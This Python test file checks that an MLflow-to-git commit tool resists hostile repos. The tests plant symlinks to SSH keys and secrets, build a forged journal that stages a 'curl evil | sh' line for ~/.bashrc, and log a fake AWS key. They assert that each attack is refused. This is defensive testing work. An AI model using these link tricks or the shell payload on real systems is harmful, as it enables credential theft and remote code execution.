"""Issue 16, commit: repos built to harm whoever runs ``octostore commit`` in them.

Each test is an attack: a run whose artifacts point at ``~/.ssh``, a ``pyproject.toml``
that names another project's store, links and FIFOs inside a store, a planted journal,
a branch switch that makes "already committed" a lie, a re-commit over the user's own
files, and a commit that would slip a secret past the repo's pre-commit hook.  Real
daemons, real git repos, real MLflow stores.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from octostored.client import RequestError

from .conftest import DaemonProc, make_repo
from .test_commit import nolfs, octo  # noqa: F401 - fixtures
from .test_commit_support import file_client, git, log_run

KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret-key-material\n"


def _point_artifacts_at(repo: Path, rid: str, folder: Path) -> None:
    [meta] = (repo / "mlruns").glob(f"*/{rid}/meta.yaml")
    doc = yaml.safe_load(meta.read_text())
    doc["artifact_uri"] = folder.as_uri()
    meta.write_text(yaml.safe_dump(doc))


def _tree_text(repo: Path) -> str:
    """Every blob of HEAD's tree, concatenated."""
    out = []
    for line in git(repo, "ls-tree", "-r", "HEAD").splitlines():
        meta, _, _path = line.partition("\t")
        _mode, kind, sha = meta.split()
        if kind == "blob":
            out.append(git(repo, "cat-file", "blob", sha))
    return "\n".join(out)


def _cli(d: DaemonProc, repo: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "octostored.cli", *args], cwd=repo,
                          env=d.env(), capture_output=True, text=True, timeout=120)


def test_commit_copies_nothing_from_outside_the_repo(nolfs: None, octo: Any,  # noqa: F811
                                                     short_tmp: Path) -> None:
    home = short_tmp / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(KEY)
    secrets = short_tmp / "secrets"
    secrets.mkdir()
    (secrets / "token").write_text("AKIA-secret-token")
    # Another project's store, named by the repo's pyproject.toml.
    other = short_tmp / "private-proj"
    oc = file_client(other)
    log_run(oc, oc.create_experiment("private"), "prod", 0.5)
    oc.log_param(oc.search_runs([e.experiment_id for e in oc.search_experiments()])[0]
                 .info.run_id, "db_password", "hunter2")
    repo = make_repo(short_tmp / "repo")
    (repo / "pyproject.toml").write_text('[tool.octostore]\nstores = ["../private-proj/mlruns"]\n')
    fc = file_client(repo)
    exp = fc.create_experiment("attack")
    ssh_run = log_run(fc, exp, "ssh", 0.1)
    _point_artifacts_at(repo, ssh_run, home / ".ssh")
    linked = log_run(fc, exp, "linked", 0.2)
    [run_dir] = (repo / "mlruns").glob(f"*/{linked}")
    os.symlink(home / ".ssh" / "id_rsa", run_dir / "artifacts" / "id_rsa")  # a file link
    os.symlink(secrets, run_dir / "artifacts" / "more")  # a folder link
    os.mkfifo(run_dir / "artifacts" / "pipe")  # never opened
    (run_dir / "artifacts" / "ok.txt").write_text("fine")
    tags = run_dir / "tags"
    for f in tags.iterdir():
        (secrets / f.name).write_text(f.read_text())
    import shutil

    shutil.rmtree(tags)
    os.symlink(secrets, tags)  # the tags folder itself leaves the repo
    # A capture lock that is a link to the key: committed as a regular file before.
    digest = "a" * 64
    (repo / ".octostore" / "envs").mkdir(parents=True)
    os.symlink(home / ".ssh" / "id_rsa", repo / ".octostore" / "envs" / f"{digest}.json")
    fc.set_tag(ssh_run, "octostore.env", digest)
    d = octo()
    with d.client() as c:
        plan = c.call("octostore/commit", root=str(repo), dry_run=True)
    origins = plan["origins"]
    refused = [o for o in origins if o["refused"]]
    assert refused and origins[:len(refused)] == refused  # outside paths first
    shown = {o["source"] for o in refused}
    assert str(home / ".ssh") in " ".join(shown)
    assert any(str(other) in s for s in shown)
    assert str(tags) in shown
    assert str(repo / ".octostore" / "envs" / f"{digest}.json") in shown
    warnings = " | ".join(plan["warnings"])
    for o in refused:
        assert o["source"] in warnings
    assert not any(r["run_id"] in warnings and "db_password" in warnings for r in plan["runs"])
    assert {r["run_name"] for r in plan["runs"]} == {"ssh", "linked"}
    assert any(s["reason"] == "its store is outside the repo" for s in plan["skipped"])
    dest = {o["dest"] for o in origins if not o["refused"]}
    assert any(x and x.endswith("/artifacts") for x in dest)
    # The CLI's dry run says what comes from where, the refused places first.
    dry = _cli(d, repo, "commit", "--dry-run")
    assert dry.returncode == 0, dry.stderr
    lines = dry.stdout.splitlines()
    first = next(i for i, ln in enumerate(lines) if "->" in ln)
    assert "REFUSED" in lines[first] and "outside the repo" in lines[first]
    assert any("->" in ln and ".octostore/runs/" in ln and "REFUSED" not in ln for ln in lines)
    with d.client() as c:
        res = c.call("octostore/commit", root=str(repo))
    assert res["committed"]
    text = _tree_text(repo)
    assert "PRIVATE KEY" not in text and "hunter2" not in text and "db_password" not in text
    assert "AKIA-secret-token" not in text
    tree = git(repo, "ls-tree", "-r", "--name-only", "HEAD").split()
    assert any(p.endswith(f"/{linked}/artifacts/ok.txt") for p in tree)
    assert not any(p.endswith(("/pipe", "/id_rsa")) or "/more/" in p for p in tree)


def _signed_journal(d: DaemonProc, state: Path, journal: dict[str, Any]) -> None:
    """A journal signed with the user's own key (as her octostore would write it)."""
    code = ("import json, sys; from octostored.gitops.journal import write_journal; "
            "write_journal(sys.argv[1], json.loads(sys.argv[2]))")
    subprocess.run([sys.executable, "-c", code, str(state), json.dumps(journal)], env=d.env(),
                   check=True)


def test_a_planted_journal_is_set_aside(nolfs: None, octo: Any,  # noqa: F811
                                        short_tmp: Path) -> None:
    outside = short_tmp / "home"
    outside.mkdir()
    (outside / ".bashrc").write_text("# mine\n")
    repo = make_repo(short_tmp / "repo")
    (repo / "src").mkdir()
    (repo / "src" / "model.py").write_text("VALUE = 1\n")
    fc = file_client(repo)
    rid = log_run(fc, fc.create_experiment("e"), "r", 0.1)
    head = git(repo, "rev-parse", "HEAD").strip()
    state = repo / ".git" / "octostore"
    staging = state / "staging-evil"
    (staging / "empty").mkdir(parents=True)
    (staging / "bashrc").write_text("curl evil | sh\n")
    planted = {"old": head, "new": head, "ref": "refs/heads/main", "staging": str(staging),
               "lines": [], "message": "x", "runs": ["x"],
               "units": [[str(staging / "bashrc"), str(outside / ".bashrc")],
                         [str(staging / "empty"), str(repo / "src")]]}
    (state / "journal.json").write_text(json.dumps(planted))
    d = octo()
    with d.client() as c:
        plan = c.call("octostore/commit", root=str(repo), dry_run=True)
        assert any("not a journal to replay" in w for w in plan["warnings"])
        res = c.call("octostore/commit", root=str(repo))
    assert res["recovered"] is None and res["committed"]
    assert [r["run_id"] for r in res["runs"]] == [rid]
    assert any("set aside" in w and "not written by your octostore" in w
               for w in res["warnings"])
    assert (outside / ".bashrc").read_text() == "# mine\n"
    assert (repo / "src" / "model.py").read_text() == "VALUE = 1\n"
    assert not (state / "journal.json").exists()
    assert len(list(state.glob("journal.json.rejected-*"))) == 1
    # Signed by her own octostore, but leading out of the repo through a link: refused too.
    (repo / ".octostore" / "out").symlink_to(outside)
    staging.mkdir(exist_ok=True)  # the planted staging folder was cleared with the journal
    (staging / "bashrc").write_text("curl evil | sh\n")
    head = git(repo, "rev-parse", "HEAD").strip()
    _signed_journal(d, state, {**planted, "old": head, "new": head, "units": [
        [str(staging / "bashrc"), str(repo / ".octostore" / "out" / ".bashrc")]]})
    log_run(fc, fc.create_experiment("f"), "s", 0.2)
    with d.client() as c:
        res = c.call("octostore/commit", root=str(repo))
    assert res["committed"] and any("outside the repo" in w and "set aside" in w
                                    for w in res["warnings"])
    assert (outside / ".bashrc").read_text() == "# mine\n"


def test_committed_follows_head_after_a_checkout_or_reset(nolfs: None, octo: Any,  # noqa: F811
                                                         short_tmp: Path) -> None:
    repo = make_repo(short_tmp / "repo")
    fc = file_client(repo)
    exp = fc.create_experiment("e")
    ids = sorted(log_run(fc, exp, f"r{i}", 0.1 * i) for i in range(3))
    d = DaemonProc(short_tmp / "d1")
    (short_tmp / "d1").mkdir()
    d.start()
    try:
        with d.client() as c:
            assert c.call("octostore/commit", root=str(repo))["committed"]
            again = c.call("octostore/commit", root=str(repo), dry_run=True)
            assert again["nothing_to_commit"] and again["already_committed"] == 3
            git(repo, "checkout", "-q", "-b", "other", "HEAD~1")
            c.call("octostore/sync", root=str(repo))
            runs = c.call("octostore/runs", root=str(repo))["runs"]
            assert sorted(r["run_id"] for r in runs) == ids
            assert not any(r["committed"] for r in runs)
            plan = c.call("octostore/commit", root=str(repo), dry_run=True)
            assert sorted(r["run_id"] for r in plan["runs"]) == ids
            assert plan["already_committed"] == 0
            res = c.call("octostore/commit", root=str(repo))
            assert res["committed"] and sorted(r["run_id"] for r in res["runs"]) == ids
            tree = git(repo, "ls-tree", "-r", "--name-only", "HEAD", "--", ".octostore/runs")
            assert all(f"/{r}/meta.yaml" in tree for r in ids)
            assert all(r["committed"] for r in c.call("octostore/runs", root=str(repo))["runs"])
        # Undo the commit keeping the files (a mixed reset), with the daemon down: after a
        # restart from its snapshot the runs are still not committed.
        d.stop()
        git(repo, "reset", "-q", "HEAD~1")
        assert (repo / ".octostore" / "runs").is_dir()
        d.start()
        with d.client() as c:
            c.call("octostore/sync", root=str(repo))
            assert not any(r["committed"] for r in c.call("octostore/runs", root=str(repo))["runs"])
            plan = c.call("octostore/commit", root=str(repo), dry_run=True)
            assert sorted(r["run_id"] for r in plan["runs"]) == ids
            out = _cli(d, repo, "commit")
            assert out.returncode == 0 and "committed 3 run(s)" in out.stdout, out.stderr
    finally:
        d.stop()


def test_recommitting_a_run_keeps_the_users_files(nolfs: None, octo: Any,  # noqa: F811
                                                  short_tmp: Path) -> None:
    repo = make_repo(short_tmp / "repo")
    fc = file_client(repo)
    rid = log_run(fc, fc.create_experiment("e"), "r", 0.1)
    d = octo()
    with d.client() as c:
        folder = c.call("octostore/commit", root=str(repo))["runs"][0]["folder"]
        run_dir = repo / folder
        (run_dir / "notes.md").write_text("my notes\n")  # hers, untracked
        (run_dir / "review").mkdir()
        (run_dir / "review" / "ok.txt").write_text("reviewed\n")
        git(repo, "add", f"{folder}/review/ok.txt")
        git(repo, "commit", "-qm", "review")  # hers, committed
        fc.set_tag(rid, "stage", "2")
        res = c.call("octostore/commit", root=str(repo), run_ids=[rid])
        assert res["committed"], res
        assert (run_dir / "notes.md").read_text() == "my notes\n"
        assert (run_dir / "review" / "ok.txt").read_text() == "reviewed\n"
        assert f"{folder}/review/ok.txt" in git(repo, "ls-tree", "-r", "--name-only", "HEAD")
        assert any(f"{folder}/notes.md" in w and "kept" in w for w in res["warnings"])
        assert (run_dir / "tags" / "stage").read_text() == "2"
        # She edits a param in the committed folder; the run changes again: refused.
        (run_dir / "params" / "alpha").write_text("0.99")
        fc.set_tag(rid, "stage", "3")
        head = git(repo, "rev-parse", "HEAD")
        with pytest.raises(RequestError) as refused:
            c.call("octostore/commit", root=str(repo), run_ids=[rid])
    assert refused.value.code == 1020
    assert f"{folder}/params/alpha" in refused.value.message
    assert (run_dir / "params" / "alpha").read_text() == "0.99"
    assert (run_dir / "notes.md").read_text() == "my notes\n"
    assert git(repo, "rev-parse", "HEAD") == head


HOOK = """#!/bin/sh
if git grep --cached -q AKIA; then
  echo "pre-commit: an AWS key (AKIA...) is staged:" >&2
  git grep --cached -l AKIA >&2
  exit 1
fi
"""
MSG_HOOK = """#!/bin/sh
printf '\\nHook-Checked: yes\\n' >> "$1"
"""


def test_the_repos_pre_commit_hook_sees_what_octostore_commits(nolfs: None, octo: Any,  # noqa: F811
                                                                short_tmp: Path) -> None:
    repo = make_repo(short_tmp / "repo")
    hooks = repo / ".git" / "hooks"
    (hooks / "pre-commit").write_text(HOOK)
    (hooks / "commit-msg").write_text(MSG_HOOK)
    for h in ("pre-commit", "commit-msg"):
        (hooks / h).chmod(0o755)
    fc = file_client(repo)
    exp = fc.create_experiment("e")
    clean = log_run(fc, exp, "clean", 0.1)
    d = octo()
    with d.client() as c:
        ok = c.call("octostore/commit", root=str(repo))
        assert ok["committed"]
        assert "Hook-Checked: yes" in git(repo, "log", "-1", "--format=%B")
        leak = log_run(fc, exp, "leak", 0.2)
        fc.log_param(leak, "aws_key", "AKIAIOSFODNN7EXAMPLE")
        head = git(repo, "rev-parse", "HEAD")
        with pytest.raises(RequestError) as refused:
            c.call("octostore/commit", root=str(repo))
        assert refused.value.code == 1022
        assert "pre-commit hook refused" in refused.value.message
        assert "an AWS key (AKIA...) is staged" in refused.value.data["output"]
        assert f"{leak}/params/aws_key" in refused.value.data["output"]
        assert git(repo, "rev-parse", "HEAD") == head
        assert not list((repo / ".octostore" / "runs").glob(f"*/{leak}"))
        assert git(repo, "status", "--porcelain", "--", ".octostore") == ""
    out = _cli(d, repo, "commit")
    assert out.returncode != 0 and "pre-commit hook refused" in out.stderr
    assert "an AWS key (AKIA...) is staged" in out.stderr and "Traceback" not in out.stderr
    forced = _cli(d, repo, "commit", "--no-verify")
    assert forced.returncode == 0 and "committed 1 run(s)" in forced.stdout, forced.stderr
    assert clean != leak


def test_a_committed_link_cannot_send_the_runs_out_of_the_repo(nolfs: None, octo: Any,  # noqa: F811
                                                              short_tmp: Path) -> None:
    home = short_tmp / "home"
    home.mkdir()
    repo = make_repo(short_tmp / "repo")
    (repo / ".octostore").mkdir()
    (repo / ".octostore" / "runs").symlink_to(home)  # as a clone would bring it
    git(repo, "add", ".octostore")
    git(repo, "commit", "-qm", "innocent")
    fc = file_client(repo)
    log_run(fc, fc.create_experiment("e"), "r", 0.1)
    head = git(repo, "rev-parse", "HEAD")
    d = octo()
    with d.client() as c, pytest.raises(RequestError) as refused:
        c.call("octostore/commit", root=str(repo))
    assert refused.value.code == 1020
    assert ".octostore/runs is a link that leads outside the repo" in refused.value.message
    assert list(home.iterdir()) == [] and git(repo, "rev-parse", "HEAD") == head
    assert not list((repo / ".git" / "octostore").glob("journal.json*"))
